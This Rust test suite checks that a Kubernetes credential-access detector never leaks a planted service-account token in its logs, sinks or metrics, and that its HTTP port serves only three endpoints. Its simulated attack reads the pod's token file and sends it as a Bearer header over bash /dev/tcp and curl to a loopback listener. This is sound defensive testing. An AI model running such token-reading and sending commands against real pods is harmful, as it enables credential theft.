//! Self-protection: credential contents never appear in anything the
//! detector writes or serves, and its HTTP port serves nothing but
//! /metrics, /healthz and /readyz.
//!
//! A unique JWT-shaped token (like a real projected service-account token:
//! an RS256 header with a random key id, claims with a random jti, a 256-byte
//! signature) is planted as a pod's projected token in a kubelet layout.
//! Processes then read it in every way that also spreads it: `cat`, a shell
//! that keeps it in a variable and passes it in a child's argv and
//! environment, and a client that sends it as `Authorization: Bearer` to a
//! loopback listener (so it is in that process's cmdline). The real daemon
//! runs with every output on — JSON-lines findings, a webhook with its spool,
//! OCSF, syslog (CEF over UDP), `--debug-events`, logs at trace level (human
//! once, JSON once, through `detector run` and `detector learn`), the learned
//! intent YAML, `detector inventory --json`, and the metrics and health
//! endpoints. Each of those is then searched for the token, each of its
//! dot-separated segments, and its random key id and jti.

use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpListener, TcpStream, UdpSocket},
    os::unix::fs::symlink,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    sync::{
        atomic::{AtomicBool, Ordering},
        Arc, Mutex,
    },
    thread::JoinHandle,
    time::{Duration, Instant},
};

use detector_tests::{
    detector_bin, free_port, http_get, pods::Node, read_jsonl, receivers::HttpReceiver,
    require_root, wait_for, Daemon, TestCgroup,
};

fn random_bytes(n: usize) -> Vec<u8> {
    let mut b = vec![0u8; n];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| f.read_exact(&mut b))
        .expect("read /dev/urandom");
    b
}

fn hex(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

/// base64url without padding (RFC 7515), as JWTs use.
fn b64url(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |acc, (i, &b)| acc | (b as u32) << (16 - 8 * i));
        for i in 0..=chunk.len() {
            out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
        }
    }
    out
}

/// The planted credential and every piece of it that must never show.
struct Planted {
    token: String,
    /// The token, its three segments, and the random key id and jti.
    needles: Vec<(&'static str, String)>,
}

fn planted_token(namespace: &str, sa: &str) -> Planted {
    let kid = hex(&random_bytes(20));
    let jti = format!(
        "{}-{}-{}-{}-{}",
        hex(&random_bytes(4)),
        hex(&random_bytes(2)),
        hex(&random_bytes(2)),
        hex(&random_bytes(2)),
        hex(&random_bytes(6))
    );
    let header = format!(r#"{{"alg":"RS256","kid":"{kid}"}}"#);
    let claims = format!(
        r#"{{"aud":["https://kubernetes.default.svc.cluster.local"],"exp":1795000000,"iat":1763464000,"iss":"https://kubernetes.default.svc.cluster.local","jti":"{jti}","kubernetes.io":{{"namespace":"{namespace}","node":{{"name":"node-1","uid":"{}"}},"pod":{{"name":"victim","uid":"{}"}},"serviceaccount":{{"name":"{sa}","uid":"{}"}},"warnafter":1763467607}},"nbf":1763464000,"sub":"system:serviceaccount:{namespace}:{sa}"}}"#,
        hex(&random_bytes(16)),
        hex(&random_bytes(16)),
        hex(&random_bytes(16)),
    );
    let segments = [
        b64url(header.as_bytes()),
        b64url(claims.as_bytes()),
        b64url(&random_bytes(256)),
    ];
    let token = segments.join(".");
    Planted {
        needles: vec![
            ("token", token.clone()),
            ("header segment", segments[0].clone()),
            ("claims segment", segments[1].clone()),
            ("signature segment", segments[2].clone()),
            ("key id", kid),
            ("jti", jti),
        ],
        token,
    }
}

/// Fail, naming the output and the piece, if any needle is in `bytes`.
fn assert_no_leak(p: &Planted, output: &str, bytes: &[u8]) {
    for (what, needle) in &p.needles {
        if let Some(at) = bytes
            .windows(needle.len())
            .position(|w| w == needle.as_bytes())
        {
            let from = at.saturating_sub(200);
            let to = (at + needle.len() + 200).min(bytes.len());
            panic!(
                "the planted token's {what} appears in {output} at byte {at}:\n…{}…",
                String::from_utf8_lossy(&bytes[from..to])
            );
        }
    }
}

/// Every regular file under `dir` (recursively), with its bytes.
fn files_under(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    let Ok(rd) = std::fs::read_dir(dir) else {
        return out;
    };
    for e in rd.flatten() {
        let p = e.path();
        match e.file_type() {
            Ok(t) if t.is_dir() => out.extend(files_under(&p)),
            Ok(t) if t.is_file() => out.push((p.clone(), std::fs::read(&p).unwrap_or_default())),
            _ => {}
        }
    }
    out
}

/// A pod's projected service-account volume laid out as kubelet's atomic
/// writer does (`..<timestamp>/token`, `..data`, `token -> ..data/token`).
fn write_pod(node: &Node, uid: &str, token: &str) -> PathBuf {
    let vol = node
        .pods_dir()
        .join(uid)
        .join("volumes/kubernetes.io~projected/kube-api-access-x7k2p");
    let ts = "..2026_11_23_10_00_00.123456789";
    std::fs::create_dir_all(vol.join(ts)).unwrap();
    std::fs::write(vol.join(ts).join("token"), token).unwrap();
    std::fs::write(vol.join(ts).join("namespace"), "victim-ns").unwrap();
    symlink(ts, vol.join("..data")).unwrap();
    symlink("..data/token", vol.join("token")).unwrap();
    symlink("..data/namespace", vol.join("namespace")).unwrap();
    vol.join("token")
}

/// Accepts HTTP requests on loopback, keeps their header lines, answers 200.
struct BearerListener {
    addr: SocketAddr,
    requests: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl BearerListener {
    fn start() -> Self {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.set_nonblocking(true).unwrap();
        let addr = l.local_addr().unwrap();
        let requests = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (r, s) = (requests.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            while !s.load(Ordering::Relaxed) {
                let Ok((mut c, _)) = l.accept() else {
                    std::thread::sleep(Duration::from_millis(5));
                    continue;
                };
                let _ = c.set_nonblocking(false);
                let _ = c.set_read_timeout(Some(Duration::from_secs(2)));
                let mut buf = Vec::new();
                let mut chunk = [0u8; 4096];
                while !buf.windows(4).any(|w| w == b"\r\n\r\n") && buf.len() < 64 << 10 {
                    match c.read(&mut chunk) {
                        Ok(0) | Err(_) => break,
                        Ok(n) => buf.extend_from_slice(&chunk[..n]),
                    }
                }
                r.lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&buf).into_owned());
                let _ = c.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok");
            }
        });
        BearerListener {
            addr,
            requests,
            stop,
            thread: Some(thread),
        }
    }
    fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

impl Drop for BearerListener {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// Collects syslog datagrams sent to a loopback UDP port.
struct UdpCollector {
    addr: SocketAddr,
    got: Arc<Mutex<Vec<Vec<u8>>>>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl UdpCollector {
    fn start() -> Self {
        let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
        sock.set_read_timeout(Some(Duration::from_millis(50)))
            .unwrap();
        let addr = sock.local_addr().unwrap();
        let got = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (g, s) = (got.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            let mut buf = vec![0u8; 65536];
            while !s.load(Ordering::Relaxed) {
                if let Ok(n) = sock.recv(&mut buf) {
                    g.lock().unwrap().push(buf[..n].to_vec());
                }
            }
        });
        UdpCollector {
            addr,
            got,
            stop,
            thread: Some(thread),
        }
    }
    fn datagrams(&self) -> Vec<Vec<u8>> {
        self.got.lock().unwrap().clone()
    }
}

impl Drop for UdpCollector {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// A daemon process (`run` or `learn`), killed on drop if still running.
struct Proc(Child);

impl Drop for Proc {
    fn drop(&mut self) {
        if let Ok(None) = self.0.try_wait() {
            unsafe { libc::kill(self.0.id() as i32, libc::SIGTERM) };
            let deadline = Instant::now() + Duration::from_secs(10);
            while Instant::now() < deadline {
                if let Ok(Some(_)) = self.0.try_wait() {
                    return;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
}

/// Where one daemon run writes.
struct Outputs {
    dir: PathBuf,
    metrics: SocketAddr,
}

impl Outputs {
    fn new(root: &Path, name: &str) -> Outputs {
        let dir = root.join(name);
        std::fs::create_dir_all(&dir).unwrap();
        Outputs {
            dir,
            metrics: format!("127.0.0.1:{}", free_port()).parse().unwrap(),
        }
    }
    fn path(&self, name: &str) -> PathBuf {
        self.dir.join(name)
    }
    fn s(&self, name: &str) -> String {
        self.path(name).to_str().unwrap().to_string()
    }
}

/// Start `detector <sub>` with every output on, at trace level.
fn spawn(
    sub: &[&str],
    out: &Outputs,
    node: &Node,
    webhook: SocketAddr,
    syslog: SocketAddr,
    log_format: &str,
) -> Proc {
    let config = format!(
        "sinks:\n  webhook:\n    url: http://{webhook}/ingest\n    spool_dir: {}\n    flush_interval: 100ms\n    batch_max: 5\n    headers: {{Authorization: \"Bearer collector-secret\"}}\n  ocsf:\n    path: {}\n  syslog:\n    address: \"{syslog}\"\n    transport: udp\n    format: cef\n",
        out.s("spool"),
        out.s("ocsf.jsonl"),
    );
    std::fs::write(out.path("config.yaml"), config).unwrap();
    let log = std::fs::File::create(out.path("daemon.log")).unwrap();
    let child = Command::new(detector_bin())
        .args(sub)
        .args(["--config", &out.s("config.yaml")])
        .args(["--log-format", log_format])
        .args(["--metrics-addr", &out.metrics.to_string()])
        .args(["--alerts", &out.s("alerts.jsonl")])
        .args(["--debug-events", &out.s("events.jsonl")])
        .args(["--kubelet-dir", node.dir_str()])
        .args(["--learn-window", "0s", "--aggregate-window", "0s"])
        .args(["--connect-dedup-ms", "0"])
        .env("RUST_LOG", "trace")
        .stdin(Stdio::null())
        .stdout(log.try_clone().unwrap())
        .stderr(log)
        .spawn()
        .expect("spawn detector");
    let mut p = Proc(child);
    let ready = wait_for(Duration::from_secs(60), || {
        if let Ok(Some(st)) = p.0.try_wait() {
            panic!(
                "detector {sub:?} exited with {st}:\n{}",
                std::fs::read_to_string(out.path("daemon.log")).unwrap_or_default()
            );
        }
        matches!(http_get(out.metrics, "/readyz"), Ok((200, _))).then_some(())
    });
    if ready.is_none() {
        p.0.kill().ok();
        panic!(
            "detector {sub:?} not ready:\n{}",
            std::fs::read_to_string(out.path("daemon.log")).unwrap_or_default()
        );
    }
    p
}

/// Read the token in every way that also spreads it. Returns the pids of
/// the processes that obtained it.
fn attack(cg: &TestCgroup, token: &Path, planted: &Planted, listener: &BearerListener) -> Vec<u32> {
    let tok = token.display();
    let port = listener.addr.port();
    let mut pids = Vec::new();
    let mut run = |shell: &str, script: String| {
        let child = cg
            .command(shell)
            .arg("-c")
            .arg(&script)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        pids.push(child.id());
        child
    };
    // A plain read.
    run("/bin/sh", format!("cat {tok} > /dev/null"))
        .wait()
        .unwrap();
    // The token in a child's argv, as the brief's example.
    run("/bin/sh", format!("T=$(cat {tok}); exec /bin/sleep 1 $T"))
        .wait()
        .unwrap();
    // In argv and in the environment of a living process: check that it
    // really is in /proc/<pid>/cmdline and environ while it runs. (`; exit`
    // keeps dash from exec'ing sleep in place of the shell.)
    let mut holder = run(
        "/bin/sh",
        format!(
            "T=$(cat {tok}); exec /usr/bin/env TOKEN=\"$T\" /bin/sh -c 'sleep 2; exit 0' argv-holder \"$T\""
        ),
    );
    let seen = wait_for(Duration::from_secs(5), || {
        let cmdline = std::fs::read(format!("/proc/{}/cmdline", holder.id())).ok()?;
        let environ = std::fs::read(format!("/proc/{}/environ", holder.id())).ok()?;
        let has = |b: &[u8]| {
            b.windows(planted.token.len())
                .any(|w| w == planted.token.as_bytes())
        };
        (has(&cmdline) && has(&environ)).then_some(())
    });
    assert!(
        seen.is_some(),
        "the token never showed in the holder's cmdline and environ"
    );
    holder.wait().unwrap();
    // Sent as a bearer token by a client with the token in its argv: an
    // external printf writes the request into a socket the shell connected
    // (the shell read the token, so it is a holder), then curl if present.
    run(
        "/bin/bash", // for /dev/tcp
        format!(
            "T=$(cat {tok}); exec 3<>/dev/tcp/127.0.0.1/{port}; /usr/bin/printf 'GET / HTTP/1.0\\r\\nAuthorization: Bearer %s\\r\\n\\r\\n' \"$T\" >&3; cat <&3 >/dev/null"
        ),
    )
    .wait()
    .unwrap();
    if Path::new("/usr/bin/curl").exists() {
        run("/bin/sh", format!(
            "T=$(cat {tok}); exec /usr/bin/curl -s --max-time 5 -H \"Authorization: Bearer $T\" http://127.0.0.1:{port}/api"
        ))
        .wait()
        .unwrap();
    } else {
        eprintln!("self_protection: no /usr/bin/curl here; the printf client stands in for it");
    }
    pids
}

#[test]
fn credential_contents_appear_in_no_output() {
    require_root();
    let planted = planted_token("victim-ns", "victim-sa");
    let node = Node::new();
    let uid = format!(
        "{}-{}-{}-{}-{}",
        hex(&random_bytes(4)),
        hex(&random_bytes(2)),
        hex(&random_bytes(2)),
        hex(&random_bytes(2)),
        hex(&random_bytes(6))
    );
    let token = write_pod(&node, &uid, &planted.token);
    let cg = TestCgroup::new("selfprot");
    let listener = BearerListener::start();
    let syslog = UdpCollector::start();
    let rt = tokio::runtime::Runtime::new().unwrap();
    let webhook = rt
        .block_on(HttpReceiver::start("127.0.0.1:0".parse().unwrap()))
        .unwrap();
    let root = tempfile::tempdir().unwrap();
    let mut outputs: Vec<(String, Vec<u8>)> = Vec::new();

    // 1. `detector run`, human logs.
    let run_out = Outputs::new(root.path(), "run");
    let daemon = spawn(
        &["run"],
        &run_out,
        &node,
        webhook.addr,
        syslog.addr,
        "human",
    );
    for path in ["/metrics", "/healthz", "/readyz"] {
        let (_, body) = http_get(run_out.metrics, path).unwrap();
        outputs.push((format!("run {path} before"), body.into_bytes()));
    }
    let pids = attack(&cg, &token, &planted, &listener);
    // The attack reached the wire: the listener got the token as a bearer.
    let reqs = listener.requests();
    assert!(
        reqs.iter()
            .any(|r| r.contains(&format!("Bearer {}", planted.token))),
        "the listener never received the token: {reqs:?}"
    );
    // Findings were produced: the host reading the pod's credential, and a
    // holder connecting to the listener.
    let findings = wait_for(Duration::from_secs(15), || {
        let f = read_jsonl(&run_out.path("alerts.jsonl"));
        (f.iter().any(|f| {
            f["kind"] == "foreign_credential" && f["credential"]["owner_pod_uid"] == uid.as_str()
        }) && f
            .iter()
            .any(|f| f["destination"]["port"] == listener.addr.port()))
        .then_some(f)
    })
    .unwrap_or_else(|| {
        panic!(
            "no foreign_credential and destination findings for the planted token; findings:\n{:#?}\nlog tail:\n{}",
            read_jsonl(&run_out.path("alerts.jsonl")),
            tail(&run_out.path("daemon.log"))
        )
    });
    assert!(
        findings
            .iter()
            .any(|f| pids.contains(&(f["process"]["pid"].as_u64().unwrap_or(0) as u32))),
        "no finding names one of the attacking processes {pids:?}: {findings:#?}"
    );
    // The daemon saw the argv-bearing processes exec (so it had the chance
    // to report them), and the reads.
    let events = read_jsonl(&run_out.path("events.jsonl"));
    assert!(
        events
            .iter()
            .any(|e| e["event"] == "credential_access" && e["cgroup_id"] == cg.id),
        "no credential_access event from the test cgroup"
    );
    assert!(
        events.iter().any(|e| e["event"] == "exec"
            && e["cgroup_id"] == cg.id
            && e["filename"] == "/usr/bin/printf"),
        "no exec event of the printf client"
    );
    // Every sink delivered something.
    let delivered = wait_for(Duration::from_secs(15), || {
        (!webhook.received().is_empty() && !syslog.datagrams().is_empty()).then_some(())
    });
    assert!(delivered.is_some(), "webhook or syslog received nothing");
    for path in ["/metrics", "/healthz", "/readyz"] {
        let (_, body) = http_get(run_out.metrics, path).unwrap();
        outputs.push((format!("run {path} after"), body.into_bytes()));
    }
    drop(daemon); // SIGTERM: the sinks flush

    // 2. `detector learn`, JSON logs, writing the learned intents.
    let learn_out = Outputs::new(root.path(), "learn");
    let learned = learn_out.path("learned.yaml");
    let mut learn = spawn(
        &[
            "learn",
            "--duration",
            "6s",
            "--output",
            learned.to_str().unwrap(),
        ],
        &learn_out,
        &node,
        webhook.addr,
        syslog.addr,
        "json",
    );
    attack(&cg, &token, &planted, &listener);
    for path in ["/metrics", "/healthz", "/readyz"] {
        if let Ok((_, body)) = http_get(learn_out.metrics, path) {
            outputs.push((format!("learn {path}"), body.into_bytes()));
        }
    }
    let status = wait_for(Duration::from_secs(30), || {
        learn.0.try_wait().ok().flatten()
    })
    .expect("detector learn did not stop by itself");
    assert!(
        status.success(),
        "detector learn: {status}\n{}",
        tail(&learn_out.path("daemon.log"))
    );
    let yaml = std::fs::read_to_string(&learned).expect("learned intents written");
    assert!(yaml.contains("kind: WorkloadIntent"), "learned:\n{yaml}");
    let json_log = std::fs::read_to_string(learn_out.path("daemon.log")).unwrap();
    assert!(
        json_log.lines().filter(|l| l.starts_with('{')).count() > 10
            && (json_log.contains("\"level\":\"TRACE\"")
                || json_log.contains("\"level\":\"DEBUG\"")),
        "expected verbose JSON logs"
    );

    // 3. `detector inventory --json` (and the table).
    for extra in [&["--json"][..], &[][..]] {
        let inv = Command::new(detector_bin())
            .args(["inventory", "--kubelet-dir", node.dir_str()])
            .args(extra)
            .env("RUST_LOG", "trace")
            .output()
            .unwrap();
        assert!(
            inv.status.success(),
            "inventory: {}",
            String::from_utf8_lossy(&inv.stderr)
        );
        assert!(
            String::from_utf8_lossy(&inv.stdout).contains(&uid),
            "inventory does not list the pod {uid}"
        );
        outputs.push((format!("inventory {extra:?} stdout"), inv.stdout));
        outputs.push((format!("inventory {extra:?} stderr"), inv.stderr));
    }

    // Everything written, delivered or served.
    for (dir, name) in [(&run_out.dir, "run"), (&learn_out.dir, "learn")] {
        for (path, bytes) in files_under(dir) {
            if path.file_name().is_some_and(|n| n == "config.yaml") {
                continue; // our own input
            }
            outputs.push((format!("{name}: {}", path.display()), bytes));
        }
    }
    outputs.push((
        "webhook deliveries".into(),
        serde_json::to_vec(&webhook.received()).unwrap(),
    ));
    for (i, d) in syslog.datagrams().into_iter().enumerate() {
        outputs.push((format!("syslog datagram {i}"), d));
    }
    let names: Vec<&str> = outputs.iter().map(|(n, _)| n.as_str()).collect();
    for want in [
        "alerts.jsonl",
        "events.jsonl",
        "ocsf.jsonl",
        "daemon.log",
        "learned.yaml",
    ] {
        assert!(
            names.iter().any(|n| n.contains(want)),
            "{want} was not produced (outputs: {names:#?})"
        );
    }
    for (name, bytes) in &outputs {
        assert_no_leak(&planted, name, bytes);
    }
    eprintln!(
        "self_protection: searched {} outputs ({} bytes) for {} pieces of the token",
        outputs.len(),
        outputs.iter().map(|(_, b)| b.len()).sum::<usize>(),
        planted.needles.len()
    );
}

fn tail(path: &Path) -> String {
    let s = std::fs::read_to_string(path).unwrap_or_default();
    let lines: Vec<&str> = s.lines().collect();
    lines[lines.len().saturating_sub(40)..].join("\n")
}

/// One raw HTTP/1.1 request: (status, headers, body).
fn raw_http(addr: SocketAddr, method: &str, target: &str) -> (u16, String, String) {
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(2)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let body = if matches!(method, "POST" | "PUT" | "PATCH") {
        "x=1"
    } else {
        ""
    };
    write!(
        s,
        "{method} {target} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .unwrap();
    let mut buf = Vec::new();
    let _ = s.read_to_end(&mut buf);
    let text = String::from_utf8_lossy(&buf).into_owned();
    let status = text
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or_else(|| panic!("no status for {method} {target}: {text:?}"));
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    (status, head.to_string(), body.to_string())
}

#[test]
fn http_endpoints_expose_nothing_else() {
    require_root();
    let d = Daemon::start(&[]).unwrap();
    let a = d.metrics;
    for path in ["/metrics", "/healthz", "/readyz"] {
        for method in ["GET", "HEAD"] {
            let (status, _, body) = raw_http(a, method, path);
            assert_eq!(status, 200, "{method} {path}");
            if method == "HEAD" {
                assert!(body.is_empty(), "HEAD {path} has a body");
            }
        }
        for method in [
            "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "FOO",
        ] {
            let (status, head, body) = raw_http(a, method, path);
            assert!(
                (400..500).contains(&status),
                "{method} {path} answered {status}:\n{head}\n\n{body}"
            );
            assert!(
                !body.contains("detector_"),
                "{method} {path} leaks metrics: {body}"
            );
        }
    }
    for path in [
        "/",
        "/debug",
        "/debug/pprof/",
        "/debug/vars",
        "/metrics/",
        "/metrics/../x",
        "/metrics/x",
        "//metrics",
        "/metricsx",
        "/METRICS",
        "/healthz/",
        "/readyz/x",
        "/readyz/../metrics",
        "/config",
        "/env",
        "/api/v1/findings",
        "/.env",
        "/favicon.ico",
        "*",
    ] {
        for method in ["GET", "HEAD", "POST"] {
            let (status, head, body) = raw_http(a, method, path);
            assert!(
                status == 404 || status == 400,
                "{method} {path} answered {status}:\n{head}\n\n{body}"
            );
            assert!(
                body.is_empty(),
                "{method} {path}: a body on an error: {body:?}"
            );
        }
    }
    // The metrics body is the exposition format and nothing else.
    let (_, _, body) = raw_http(a, "GET", "/metrics");
    for line in body.lines().filter(|l| !l.is_empty()) {
        assert!(
            line.starts_with("# HELP ")
                || line.starts_with("# TYPE ")
                || line.starts_with("detector_")
                || line.starts_with("process_"),
            "unexpected line in /metrics: {line}"
        );
    }
}
